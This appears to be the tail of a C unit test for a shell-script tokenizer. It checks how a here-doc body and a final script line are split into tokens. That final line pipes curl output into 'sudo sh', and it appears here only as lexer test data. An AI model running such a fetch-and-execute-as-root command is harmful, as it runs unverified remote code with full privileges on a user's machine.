        cr_expect_eq(token_line(&l, &l.v[i]), 13);

        /* the here-doc body is one string, with its expansions after it */
        i = find(&l, 0, TOK_PUNCT, "<<");
        cr_assert_neq(i, SIZE_MAX);
        cr_expect_eq(token_line(&l, &l.v[i]), 27);
        const struct token *body = &l.v[i + 3];
        cr_expect_eq(body->kind, TOK_STRING);
        cr_expect_eq(body->flags, TOKF_HEREDOC);
        cr_expect_str_eq(body->value, "export PATH=\"$PREFIX/bin:$PATH\"\n");
        cr_expect(token_is(&l, &l.v[i + 4], TOK_WORD, "$PREFIX"));

        /* the last line: curl piped into sudo sh, after the body */
        i = find(&l, i, TOK_WORD, "curl");
        cr_assert_neq(i, SIZE_MAX);
        cr_expect_eq(token_line(&l, &l.v[i]), 30);
        cr_expect_eq(token_column(&l, &l.v[i]), 1);
        cr_expect_eq(l.v[i].flags, 0);
        cr_expect(token_is(&l, &l.v[i + 3], TOK_PUNCT, "|"));
        cr_expect(token_is(&l, &l.v[i + 4], TOK_WORD, "sudo"));
        cr_expect(token_is(&l, &l.v[i + 5], TOK_WORD, "sh"));
        token_list_done(&l);
}
